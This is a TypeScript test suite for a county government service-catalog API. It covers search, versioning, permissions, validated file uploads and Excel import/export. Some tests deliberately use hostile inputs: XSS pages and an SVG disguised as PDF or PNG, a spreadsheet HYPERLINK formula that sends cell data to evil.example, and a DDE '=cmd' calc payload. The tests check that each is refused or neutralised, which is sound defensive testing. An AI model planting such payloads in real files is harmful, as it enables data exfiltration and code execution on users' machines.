import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import ExcelJS from 'exceljs';
import { testBackends } from './support/database.ts';
import { createTestContext, type TestContext } from './support/context.ts';
import { comparePinyin } from '../src/domain/search-keys.ts';

const dibao = '370982-MZ-001';

for (const backend of testBackends()) {
  describe(`service catalog (${backend.name})`, () => {
    let ctx: TestContext;
    let admin: string;
    before(async () => {
      ctx = await createTestContext(backend);
      admin = await ctx.signIn('admin');
    });
    after(() => ctx.close());

    const search = async (query: string) => {
      const response = await ctx.request({ method: 'GET', url: `/api/items?${query}` });
      assert.equal(response.statusCode, 200, response.body);
      return response.json() as {
        total: number;
        items: { implementationCode: string; name: string; visitsRequired: number; departmentName: string; channels: string[]; rank: number }[];
        bundles: { code: string; content: { name: string }; rank: number }[];
      };
    };

    test('search finds 最低生活保障 by alias, full pinyin, initials and a typo, best first, without sign-in', async () => {
      for (const q of ['低保', 'dibao', 'di%20bao', 'db', '最低生活', 'zuidishenghuo', '生活保障', '最低生活保证对象认定', 'dibo', '低保%20申请', '最低%20认定']) {
        const found = await search(`q=${encodeURIComponent(decodeURIComponent(q))}`);
        assert.equal(found.items[0]?.implementationCode, dibao, `${q} → ${found.items.map((i) => i.name).join(', ')}`);
      }
      // Several words: every one must match.
      const both = await search(`q=${encodeURIComponent('养老 备案')}`);
      assert.equal(both.items[0]?.name, '养老机构备案', both.items.map((i) => i.name).join());
      assert.deepEqual(await search(`q=${encodeURIComponent('养老 户口')}`), { total: 0, items: [], bundles: [] });
      const none = await search('q=xyzxyz');
      assert.deepEqual(none, { total: 0, items: [], bundles: [] });
    });

    test('one search finds bundles too: by alias, everyday word and sound-alike slip; best first, then pinyin order', async () => {
      const restaurant = await search(`q=${encodeURIComponent('开饭店')}`);
      assert.deepEqual(
        restaurant.bundles.map((b) => b.content.name),
        ['开办餐饮店一件事'],
      );
      const birth = await search(`q=${encodeURIComponent('生孩子')}`);
      assert.equal(birth.bundles[0]?.content.name, '出生一件事');
      // 低宝: the input method's wrong 宝 for 保; found by sound, below what the right word scores.
      const slip = await search(`q=${encodeURIComponent('低宝')}`);
      const right = await search(`q=${encodeURIComponent('低保')}`);
      assert.equal(slip.items[0]?.implementationCode, dibao);
      assert.ok(slip.items[0]!.rank < right.items[0]!.rank, `${slip.items[0]!.rank} < ${right.items[0]!.rank}`);
      // Nothing matches whole: the longest pieces that do.
      const lost = await search(`q=${encodeURIComponent('身份证丢了')}`);
      assert.equal(lost.items[0]?.name, '居民身份证申领');
      // Equal scores go in pinyin order.
      const permits = await search(`q=${encodeURIComponent('许可证核发')}&limit=100`);
      const ranks = permits.items.map((i) => i.rank);
      assert.ok(permits.items.length >= 3);
      for (let i = 1; i < permits.items.length; i++) {
        if (ranks[i] === ranks[i - 1]) assert.ok(comparePinyin(permits.items[i - 1]!.name, permits.items[i]!.name) <= 0, `${permits.items[i - 1]!.name} before ${permits.items[i]!.name}`);
        else assert.ok(ranks[i]! < ranks[i - 1]!);
      }
      // Filters are about items: a filtered search lists no bundles.
      assert.deepEqual((await search(`q=${encodeURIComponent('开饭店')}&zeroVisit=true`)).bundles, []);
    });

    test('filters: department, service object, channel and zero-visit', async () => {
      const departments = (await ctx.request({ method: 'GET', url: '/api/departments', cookie: admin })).json() as { id: string; name: string }[];
      const police = departments.find((d) => d.name === '新泰市公安局')!;
      const byDepartment = await search(`departmentId=${police.id}&limit=100`);
      assert.ok(byDepartment.total >= 3);
      assert.ok(byDepartment.items.every((i) => i.departmentName === '新泰市公安局'));
      const zeroVisit = await search('zeroVisit=true&limit=100');
      assert.ok(zeroVisit.total > 0 && zeroVisit.items.every((i) => i.visitsRequired === 0));
      const mobile = await search('channel=mobile&limit=100');
      assert.ok(mobile.items.every((i) => i.channels.includes('mobile')));
      const all = await search('limit=100');
      assert.ok(all.total >= 40 && zeroVisit.total < all.total);
      assert.equal((await ctx.request({ method: 'GET', url: '/api/items?channel=fax' })).statusCode, 400);
    });

    test('an item page carries the standard elements and its materials; an unknown code is a 404', async () => {
      const response = await ctx.request({ method: 'GET', url: `/api/items/${dibao}` });
      assert.equal(response.statusCode, 200);
      const item = response.json();
      assert.equal(item.version, 1);
      assert.equal(item.content.name, '最低生活保障对象认定');
      assert.ok(item.content.aliases.includes('低保'));
      assert.ok(item.content.legalBasis.includes('社会救助暂行办法'));
      assert.ok(
        item.content.materials.some((m: { source: string }) => m.source === 'licence'),
        'some materials come from the licence library',
      );
      assert.equal(item.content.delegatedToTowns, true);
      const missing = await ctx.request({ method: 'GET', url: '/api/items/370982-XX-999' });
      assert.equal(missing.statusCode, 404);
      assert.equal(missing.json().error.message, '事项不存在');
    });

    test('editing a published item makes a new version on publish; the old version stays readable', async () => {
      const current = (await ctx.request({ method: 'GET', url: `/api/items/${dibao}` })).json().content;
      const edited = { ...current, materials: current.materials.map((m: { key: string; notes: string }, i: number) => (i === 0 ? { ...m, notes: `${m.notes}(可由村代办员代为填写)` } : m)) };
      const saved = await ctx.request({ method: 'PUT', url: `/api/items/${dibao}/draft`, cookie: admin, body: edited, idempotencyKey: true });
      assert.equal(saved.statusCode, 200, saved.body);
      assert.deepEqual([saved.json().version, saved.json().status], [2, 'draft']);
      assert.equal((await ctx.request({ method: 'GET', url: `/api/items/${dibao}` })).json().version, 1, 'the public still sees version 1');
      assert.equal((await ctx.request({ method: 'GET', url: `/api/items/${dibao}/draft` })).statusCode, 401, 'drafts are not public');
      const listed = (await ctx.request({ method: 'GET', url: '/api/admin/items', cookie: admin })).json() as { implementationCode: string; version: number; status: string; draftVersion: number | null }[];
      assert.ok(listed.length >= 40);
      assert.deepEqual(
        listed.find((i) => i.implementationCode === dibao),
        {
          ...listed.find((i) => i.implementationCode === dibao),
          version: 1,
          status: 'published',
          draftVersion: 2,
        },
      );
      assert.equal(listed.find((i) => i.implementationCode === '370982-GA-001')!.draftVersion, null);

      const published = await ctx.request({ method: 'POST', url: `/api/items/${dibao}/publish`, cookie: admin, idempotencyKey: true });
      assert.equal(published.statusCode, 200);
      assert.deepEqual([published.json().version, published.json().status], [2, 'published']);
      assert.match((await ctx.request({ method: 'GET', url: `/api/items/${dibao}` })).json().content.materials[0].notes, /村代办员/);
      const versions = (await ctx.request({ method: 'GET', url: `/api/items/${dibao}/versions` })).json();
      assert.deepEqual(
        versions.map((v: { version: number; status: string }) => [v.version, v.status]),
        [
          [2, 'published'],
          [1, 'superseded'],
        ],
      );
      const old = (await ctx.request({ method: 'GET', url: `/api/items/${dibao}/versions/1` })).json();
      assert.doesNotMatch(old.content.materials[0].notes, /村代办员/);
      const again = await ctx.request({ method: 'POST', url: `/api/items/${dibao}/publish`, cookie: admin, idempotencyKey: true });
      assert.equal(again.statusCode, 409);
    });

    test('who may edit: the item’s department administrator and region administrators, nobody else', async () => {
      const content = (await ctx.request({ method: 'GET', url: `/api/items/${dibao}` })).json().content;
      const put = async (username: string) => (await ctx.request({ method: 'PUT', url: `/api/items/${dibao}/draft`, cookie: await ctx.signIn(username), body: content, idempotencyKey: true })).statusCode;
      assert.equal(await put('reviewer.mz'), 403);
      assert.equal(await put('admin.zhaizhen'), 403, 'a town administrator does not edit a county item');
      assert.equal(await put('admin.mz'), 200, 'the civil-affairs administrator edits civil-affairs items');
      const police = { ...(await ctx.request({ method: 'GET', url: '/api/items/370982-GA-001' })).json().content };
      const asMz = await ctx.request({ method: 'PUT', url: '/api/items/370982-GA-001/draft', cookie: await ctx.signIn('admin.mz'), body: police, idempotencyKey: true });
      assert.equal(asMz.statusCode, 403);
      assert.equal((await ctx.request({ method: 'DELETE', url: `/api/items/${dibao}/draft`, cookie: admin, idempotencyKey: true })).statusCode, 204);
    });

    test('content that breaks the rules is refused with every problem named', async () => {
      const content = (await ctx.request({ method: 'GET', url: '/api/items/370982-GA-001' })).json().content;
      const broken = {
        ...content,
        caseKind: 'promised',
        promisedDays: content.statutoryDays + 5,
        statutoryUnit: content.promisedUnit,
        materials: [{ ...content.materials[0], required: true, deferrable: true, deferrableUntil: null }],
      };
      const response = await ctx.request({ method: 'PUT', url: '/api/items/370982-GA-001/draft', cookie: admin, body: broken, idempotencyKey: true });
      assert.equal(response.statusCode, 400);
      const fields = response.json().error.details.map((d: { field: string }) => d.field);
      assert.ok(fields.includes('promisedDays'), fields.join());
      assert.ok(fields.includes('materials.0.deferrableUntil'), fields.join());
      assert.match(response.json().error.message, /容缺材料须写明补齐时点/);
    });

    test('an item’s result names a licence type of the catalog; an unknown one is refused', async () => {
      const content = (await ctx.request({ method: 'GET', url: '/api/items/370982-GA-005' })).json().content;
      assert.equal(content.resultLicenceType, '特种行业许可证');
      const unknown = await ctx.request({ method: 'PUT', url: '/api/items/370982-GA-005/draft', cookie: admin, body: { ...content, resultLicenceType: '不存在的证照' }, idempotencyKey: true });
      assert.equal(unknown.statusCode, 400, unknown.body);
      assert.match(unknown.json().error.message, /不存在的证照.*不在证照类型目录中/);
      const types = (await ctx.request({ method: 'GET', url: '/api/licence-types' })).json() as { code: string; name: string; validityYears: number | null }[];
      assert.deepEqual(
        types.find((t) => t.name === '食品经营许可证'),
        { code: '11100000MB0143028R002', name: '食品经营许可证', authorityName: '国家市场监督管理总局', validityYears: 5 },
      );
      const bad = await ctx.request({ method: 'PUT', url: '/api/admin/licence-types', cookie: admin, body: [{ code: '11100000MB0143028RZZZ', name: 'x', authorityName: 'y', validityYears: null }], idempotencyKey: true });
      assert.equal(bad.statusCode, 400, 'a type number is 3 digits');
      const badUscc = await ctx.request({
        method: 'PUT',
        url: '/api/admin/licence-types',
        cookie: admin,
        body: [{ code: '11100000MB0143028A002', name: '校验位错误的证照', authorityName: '国家市场监督管理总局', validityYears: 5 }],
        idempotencyKey: true,
      });
      assert.equal(badUscc.statusCode, 400, "the authority's USCC must check");
      assert.match(badUscc.json().error.message, /校验位/);
      const renamedOver = await ctx.request({
        method: 'PUT',
        url: '/api/admin/licence-types',
        cookie: admin,
        body: [{ code: '11100000MB0143028R098', name: '营业执照', authorityName: '国家市场监督管理总局', validityYears: null }],
        idempotencyKey: true,
      });
      assert.equal(renamedOver.statusCode, 409, 'a name belongs to one code');
    });

    test('a bundle merges its members’ forms and materials and says how many were saved', async () => {
      const list = (await ctx.request({ method: 'GET', url: '/api/bundles' })).json() as { code: string; content: { name: string } }[];
      assert.ok(list.length >= 4);
      for (const name of ['企业开办', '开办餐饮店', '出生一件事', '退休一件事'])
        assert.ok(
          list.some((b) => b.content.name.includes(name)),
          name,
        );
      const birth = list.find((b) => b.content.name === '出生一件事')!;
      const view = (await ctx.request({ method: 'GET', url: `/api/bundles/${birth.code}` })).json();
      assert.equal(view.members.length, 5);
      assert.deepEqual(view.missing, []);
      assert.ok(view.merged.saved.materials > 0, 'shared materials are asked once');
      assert.equal(view.merged.materials.length, view.merged.separately.materials - view.merged.saved.materials);
      const keys = view.merged.materials.map((m: { key: string }) => m.key);
      assert.equal(new Set(keys).size, keys.length);
    });

    const upload = (cookie: string, file: { name: string; type: string; data: Buffer }) => {
      const boundary = '----onewindow';
      const payload = Buffer.concat([Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${file.name}"\r\nContent-Type: ${file.type}\r\n\r\n`), file.data, Buffer.from(`\r\n--${boundary}--\r\n`)]);
      return ctx.app.inject({ method: 'POST', url: '/api/files', headers: { cookie, 'content-type': `multipart/form-data; boundary=${boundary}`, 'idempotency-key': randomUUID() }, payload });
    };
    const pdf = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');
    const png = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8ffff3f0005fe02fea7d6a4a30000000049454e44ae426082', 'hex');
    const fileRows = async () =>
      Number(
        (
          await ctx.database.db
            .selectFrom('catalog_files')
            .select((eb) => eb.fn.countAll<string>().as('n'))
            .executeTakeFirstOrThrow()
        ).n,
      );

    test('blank forms upload as multipart and download by id, always as an attachment', async () => {
      const uploaded = await upload(admin, { name: '低保申请书.pdf', type: 'application/pdf', data: pdf });
      assert.equal(uploaded.statusCode, 201, uploaded.body);
      assert.deepEqual([uploaded.json().name, uploaded.json().contentType], ['低保申请书.pdf', 'application/pdf']);
      const file = await ctx.request({ method: 'GET', url: `/api/files/${uploaded.json().id}` });
      assert.equal(file.statusCode, 200);
      assert.deepEqual(file.rawPayload, pdf);
      assert.equal(file.headers['content-type'], 'application/pdf');
      assert.equal(file.headers['content-disposition'], `attachment; filename="_____.pdf"; filename*=UTF-8''%E4%BD%8E%E4%BF%9D%E7%94%B3%E8%AF%B7%E4%B9%A6.pdf`);
      assert.equal(file.headers['x-content-type-options'], 'nosniff');
      assert.equal(file.headers['content-security-policy'], "default-src 'none'; sandbox");
      const asReviewer = await upload(await ctx.signIn('reviewer.mz'), { name: '低保申请书.pdf', type: 'application/pdf', data: pdf });
      assert.equal(asReviewer.statusCode, 403);
    });

    test('what a file holds decides, not its name or declared type: a page or drawing dressed as a PDF is refused', async () => {
      const before = await fileRows();
      const auditBefore = (await ctx.database.db.selectFrom('audit_log').select('seq').execute()).length;
      const html = await upload(admin, { name: '低保申请书.pdf', type: 'application/pdf', data: Buffer.from('<!DOCTYPE html><html><body><script>fetch("/api/auth/me")</script></body></html>') });
      assert.equal(html.statusCode, 415, html.body);
      assert.deepEqual(html.json().error, {
        code: 'UNSUPPORTED_MEDIA_TYPE',
        message: '空白表格或样表只接受 PDF、OFD、Word/WPS (.doc .wps)、Word (.docx)、Excel/WPS (.xls .et)、Excel (.xlsx)、JPEG、PNG 格式;按文件内容判断,改扩展名无效',
        messageEn: 'A blank form or sample must be PDF, OFD, Word/WPS (.doc .wps), Word (.docx), Excel/WPS (.xls .et), Excel (.xlsx), JPEG, PNG; the content decides, not the file name',
      });
      const svg = await upload(admin, { name: '样表.png', type: 'image/png', data: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="10" height="10"/></svg>') });
      assert.equal(svg.statusCode, 415);
      const empty = await upload(admin, { name: '空.pdf', type: 'application/pdf', data: Buffer.alloc(0) });
      assert.equal(empty.statusCode, 400);
      assert.equal(empty.json().error.message, '文件为空');
      assert.equal(await fileRows(), before, 'nothing stored');
      assert.equal((await ctx.database.db.selectFrom('audit_log').select('seq').execute()).length, auditBefore, 'nothing audited');
    });

    test('an image is stored as what it is, under a name of its kind, whatever the client declared', async () => {
      const uploaded = await upload(admin, { name: '样表.html', type: 'text/html', data: png });
      assert.equal(uploaded.statusCode, 201, uploaded.body);
      assert.deepEqual([uploaded.json().name, uploaded.json().contentType], ['样表.png', 'image/png']);
      const file = await ctx.request({ method: 'GET', url: `/api/files/${uploaded.json().id}` });
      assert.equal(file.headers['content-type'], 'image/png');
      assert.match(file.headers['content-disposition'] as string, /^attachment; .*filename\*=UTF-8''%E6%A0%B7%E8%A1%A8\.png$/);
      assert.equal(file.headers['x-content-type-options'], 'nosniff');
    });

    test('a file stored before uploads were checked is served as bytes to save, never as a page', async () => {
      const [row] = await ctx.database.db
        .insertInto('catalog_files')
        .values({ name: '旧文件.html', content_type: 'text/html', size: 28, sha256: '0'.repeat(64), data: Buffer.from('<script>alert(1)</script>ok!'), created_at: new Date() })
        .returning('id')
        .execute();
      const file = await ctx.request({ method: 'GET', url: `/api/files/${row!.id}` });
      assert.equal(file.statusCode, 200);
      assert.equal(file.headers['content-type'], 'application/octet-stream');
      assert.match(file.headers['content-disposition'] as string, /^attachment; /);
      assert.equal(file.headers['content-security-policy'], "default-src 'none'; sandbox");
    });
  });

  describe(`catalog workbook (${backend.name})`, () => {
    let ctx: TestContext;
    before(async () => {
      ctx = await createTestContext(backend);
    });
    after(() => ctx.close());

    const system = { actor: { kind: 'system' as const, id: null, name: 'test', grants: [] } };
    const versionCount = async () =>
      Number(
        (
          await ctx.database.db
            .selectFrom('service_item_versions')
            .select((eb) => eb.fn.countAll<string>().as('n'))
            .executeTakeFirstOrThrow()
        ).n,
      );

    async function cells(file: Buffer): Promise<string> {
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(file as unknown as ArrayBuffer);
      return workbook.worksheets
        .map((sheet) => {
          const rows: string[] = [];
          sheet.eachRow((row) => rows.push(JSON.stringify(row.values)));
          return `${sheet.name}\n${rows.join('\n')}`;
        })
        .join('\n\n');
    }

    test('export → import round-trips unchanged: nothing republished, the same cells exported again', async () => {
      const first = await ctx.services.catalog.exportWorkbook();
      assert.ok(first.items >= 40 && first.bundles >= 4);
      const before = await versionCount();
      const result = await ctx.services.catalog.importWorkbook(system, first.file);
      assert.deepEqual(result, { published: 0, unchanged: first.items, bundles: first.bundles });
      assert.equal(await versionCount(), before);
      const second = await ctx.services.catalog.exportWorkbook();
      assert.equal(await cells(second.file), await cells(first.file));
    });

    test('an edited row publishes a new version of that item only', async () => {
      const exported = await ctx.services.catalog.exportWorkbook();
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(exported.file as unknown as ArrayBuffer);
      const sheet = workbook.getWorksheet('事项')!;
      sheet.eachRow((row) => {
        if (row.getCell(1).value === dibao) row.getCell(25).value = '0538-7220000';
      });
      const result = await ctx.services.catalog.importWorkbook(system, Buffer.from(await workbook.xlsx.writeBuffer()));
      assert.equal(result.published, 1);
      const item = await ctx.services.catalog.getPublished(dibao);
      assert.deepEqual([item.version, item.content.phone], [2, '0538-7220000']);
    });

    test('a workbook with mistakes changes nothing and names each by sheet, row and column', async () => {
      const exported = await ctx.services.catalog.exportWorkbook();
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(exported.file as unknown as ArrayBuffer);
      const items = workbook.getWorksheet('事项')!;
      items.getRow(2).getCell(14).value = '马上办';
      items.getRow(3).getCell(7).value = '新泰市不存在局';
      const materials = workbook.getWorksheet('材料')!;
      materials.getRow(2).getCell(6).value = '是';
      materials.getRow(2).getCell(7).value = '';
      workbook.getWorksheet('一件事')!.getRow(2).getCell(7).value = '370982-NO-SUCH;370982-MZ-002';
      const before = await versionCount();
      const auditBefore = (await ctx.database.db.selectFrom('audit_log').select('seq').execute()).length;
      await assert.rejects(
        ctx.services.catalog.importWorkbook(system, Buffer.from(await workbook.xlsx.writeBuffer())),
        (error: { code: string; messageZh: string; details: { sheet: string; row: number; column: string; message: string }[] }) => {
          assert.equal(error.code, 'VALIDATION_FAILED');
          assert.match(error.messageZh, /导入失败,未做任何更改/);
          const where = error.details.map((d) => `${d.sheet}/${d.row}/${d.column}`);
          assert.ok(where.includes('事项/2/办件类型'), where.join(' '));
          assert.ok(where.includes('材料/2/容缺补齐时点'), where.join(' '));
          assert.ok(where.includes('一件事/2/包含事项(实施编码)'), where.join(' '));
          assert.ok(
            error.details.every((d) => (d as { messageEn?: string }).messageEn),
            'every problem in English too',
          );
          return true;
        },
      );
      // The unknown department is found at write time; that also rolls back everything.
      items.getRow(2).getCell(14).value = '承诺件';
      materials.getRow(2).getCell(6).value = '否';
      workbook.getWorksheet('一件事')!.getRow(2).getCell(7).value = '370982-MZ-001;370982-MZ-002';
      await assert.rejects(ctx.services.catalog.importWorkbook(system, Buffer.from(await workbook.xlsx.writeBuffer())), /新泰市不存在局/);
      assert.equal(await versionCount(), before);
      assert.equal((await ctx.database.db.selectFrom('audit_log').select('seq').execute()).length, auditBefore);
      await assert.rejects(ctx.services.catalog.importWorkbook(system, Buffer.from('not a workbook')), (e: { details: { message: string }[] }) => /不是有效的 Excel/.test(e.details[0]!.message));
    });

    test('text that a spreadsheet would run as a formula is exported as text and imported back unchanged', async () => {
      const hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")';
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load((await ctx.services.catalog.exportWorkbook()).file as unknown as ArrayBuffer);
      workbook.getWorksheet('事项')!.eachRow((row) => {
        if (row.getCell(1).value === dibao) {
          row.getCell(3).value = hyperlink;
          row.getCell(4).value = '@SUM(1+1);低保';
        }
      });
      const notes = ['-1', '+1', "\t=cmd|' /C calc'!A0"];
      let material = 0;
      workbook.getWorksheet('材料')!.eachRow((row) => {
        if (row.getCell(1).value === dibao && material < notes.length) row.getCell(12).value = notes[material++]!;
      });
      assert.equal((await ctx.services.catalog.importWorkbook(system, Buffer.from(await workbook.xlsx.writeBuffer()))).published, 1);

      const exported = await ctx.services.catalog.exportWorkbook();
      const written = new ExcelJS.Workbook();
      await written.xlsx.load(exported.file as unknown as ArrayBuffer);
      let nameCell: ExcelJS.Cell | undefined;
      written.getWorksheet('事项')!.eachRow((row) => {
        if (row.getCell(1).value === dibao) nameCell = row.getCell(3);
      });
      assert.equal(nameCell!.type, ExcelJS.ValueType.String, 'a string cell, no formula');
      assert.equal(nameCell!.value, `'${hyperlink}`);
      const writtenNotes: unknown[] = [];
      written.getWorksheet('材料')!.eachRow((row) => {
        if (row.getCell(1).value === dibao) writtenNotes.push(row.getCell(12).value);
      });
      // (The tab was trimmed on the way in, as the import trims every cell.)
      assert.deepEqual(writtenNotes.slice(0, 3), ["'-1", "'+1", "'=cmd|' /C calc'!A0"]);

      const again = await ctx.services.catalog.importWorkbook(system, exported.file);
      assert.equal(again.published, 0, 'nothing changed on the way back');
      const item = await ctx.services.catalog.getPublished(dibao);
      assert.equal(item.content.name, hyperlink);
      assert.deepEqual(item.content.aliases[0], '@SUM(1+1)');
      assert.deepEqual(
        item.content.materials.slice(0, 3).map((m) => m.notes),
        ['-1', '+1', "=cmd|' /C calc'!A0"],
      );
    });
  });
}
